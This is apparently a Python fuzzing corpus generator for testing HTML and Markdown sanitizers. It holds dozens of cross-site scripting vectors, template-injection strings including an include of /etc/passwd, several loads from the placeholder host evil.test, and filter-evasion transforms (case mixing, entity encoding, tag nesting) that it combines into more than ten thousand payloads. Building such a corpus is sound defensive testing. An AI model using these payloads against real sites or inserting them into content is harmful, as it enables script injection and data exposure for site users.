"""Ways into a page that have worked somewhere, and thousands of variations: all call alert, or ask evil.test."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

VECTORS = [
    "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>", "<img src=x onerror=alert(1)>",
    "<img src=//evil.test/t.gif>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href=//evil.test/x.svg#a /></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=//evil.test></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<video src=//evil.test/v onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=preload as=script href=//evil.test/x.js>", "<style>@import '//evil.test/x.css';</style>",
    "<style>*{background:url(//evil.test/b)}</style>", "<p style=background:url(//evil.test/p)>x</p>",
    "<meta http-equiv=refresh content=0;url=//evil.test>", "<base href=//evil.test/>",
    "<object data=//evil.test/o></object>", "<embed src=//evil.test/e>",
    "<form action=//evil.test><button autofocus onfocus=alert(1)>x</button></form>",
    "<a href=javascript:alert(1)>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:alert(1))",
    '[x](https://a.test "q\\" onmouseover=alert(1) \\"")', "![x](//evil.test/i.png)",
    "![x](https://evil.test/i.png)", '![x](y.png "a\\" onerror=alert(1) \\"")', "![x](javascript:alert(1))",
    "![x](\\\\evil.test\\i.png)", "<javascript:alert(1)>",
    "{{ cycler.__init__.__globals__ }}<img src=x onerror=alert(1)>", "{% include '/etc/passwd' %}",
    "{{ '<script>alert(1)</script>'|safe }}", '" onload="alert(1)', "' autofocus onfocus='alert(1)",
    "` onerror=alert(1) `", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "*[x]: <script>alert(1)</script>",
    "x {: onclick=alert(1) }", "[^1]: <script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    'https://a.test/"onmouseover=alert(1)//',
]  # fmt: skip
OPENINGS = [
    "", '">', "'>", "`>", "--> ", "]]>", "*/", "}}", "</title>", "</textarea>", "</script>", "</style>", "</p></main>",
    "<!--", "<b ", "&lt;/script&gt;", "[", "**", '<p title="', "{{",
]  # fmt: skip
CHANGES = {
    "as it is": lambda text: text,
    "capitals": lambda text: text.replace("script", "ScRiPt").replace("onerror", "oNeRRoR").replace("img", "ImG"),
    "entities": lambda text: text.replace("javascript:", "&#106;avascript&colon;").replace("alert", "&#x61;lert"),
    "a tab in it": lambda text: text.replace("javascript", "java&Tab;script").replace("<img", "<img/\u00a0"),
    "nested": lambda text: text.replace("<script", "<scr<script>ipt").replace("</script", "</scr</script>ipt"),
    "slashes": lambda text: text.replace(" on", "/on").replace(" src", "/src"),
    "no end": lambda text: text.rstrip(">"),
    "twice": lambda text: text + text,
    "spaces": lambda text: text.replace("=", " = ").replace("(javascript", "(  javascript"),
}
ENDINGS = ["", "<p x='"]


def strings() -> Iterator[str]:
    """Yield more than ten thousand different strings, each on one line."""
    seen = set()
    for opening, change, vector, ending in product(OPENINGS, CHANGES.values(), VECTORS, ENDINGS):
        text = opening + change(vector) + ending
        if text not in seen:
            seen.add(text)
            yield text
